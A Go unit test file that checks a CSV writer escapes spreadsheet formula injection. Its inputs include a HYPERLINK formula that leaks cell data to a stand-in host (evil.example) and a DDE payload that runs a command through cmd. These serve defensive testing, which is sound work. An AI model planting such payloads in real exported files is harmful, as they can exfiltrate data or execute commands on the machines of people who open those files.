package csvout

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCellNeutralisesFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"+cmd|' /C calc'!A0":                         "'+cmd|' /C calc'!A0",
		"-2+3":                                       "'-2+3",
		"@SUM(A1:A9)":                                "'@SUM(A1:A9)",
		"\t=1":                                       "'\t=1",
		"\r=1":                                       "'\r=1",
		"-1350":                                      "-1350",
		"-13.50":                                     "-13.50",
		"+5":                                         "+5",
		"-":                                          "'-",
		"-Inf":                                       "'-Inf",
		"-1e9":                                       "'-1e9",
		"Amina":                                      "Amina",
		"BHD -1.350":                                 "BHD -1.350",
		"":                                           "",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterWritesSafeRecords(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	_ = w.Write([]string{"=1+1", "a,b", "-5"})
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != 1 || recs[0][0] != "'=1+1" || recs[0][1] != "a,b" || recs[0][2] != "-5" {
		t.Fatalf("read back %q %v", recs, err)
	}
}
